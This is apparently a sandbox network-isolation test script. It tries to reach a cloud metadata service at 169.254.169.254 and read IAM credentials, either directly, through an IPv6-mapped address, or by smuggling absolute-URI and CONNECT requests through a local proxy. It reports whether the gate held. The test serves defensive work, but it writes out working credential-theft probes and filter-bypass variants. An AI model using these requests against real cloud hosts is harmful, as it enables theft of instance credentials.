# attack: a cloud's metadata service
# family: 20
# runs: call exec
# stopped-by: gate-private
# network: {"preset": "open", "rules": [{"allow": ["metadata.example", "169.254.169.254"], "ports": [80]}]}
#
# The machine's own keys lie at 169.254.169.254; even a rule that names it does not open it.
import socket


def _talk(host, port, text):
    """What comes back until the other side ends, or as much as came before it reset."""
    got = b""
    try:
        with socket.create_connection((host, port), 5) as s:
            s.sendall(text)
            while part := s.recv(65536):
                got += part
    except OSError:
        pass
    return got


def _get(host, path="/", port=80):
    return _talk(host, port, f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())


def attack():
    if b"93.184.216.34" not in _get("allowed.example"):
        return "BROKEN: the allowed host does not answer"
    for host in ("metadata.example", "169.254.169.254", "::ffff:169.254.169.254"):
        if b'"server"' in _get(host, "/latest/meta-data/iam/security-credentials/"):
            return f"ESCAPED: {host} answered"
        for text in (
            f"GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\nX-aws-ec2-metadata-token: x\r\n\r\n",
            f"CONNECT {host}:80 HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n",
        ):
            if b'"server"' in _talk("127.0.0.1", 15001, text.encode()):
                return f"ESCAPED: {host} answered through the proxy"
    return "HELD: no way leads there"


if __name__ == "__main__":
    verdict = attack()
    print(verdict)
    raise SystemExit({"HELD": 0, "ESCAPED": 42}.get(verdict.split(":")[0], 43))
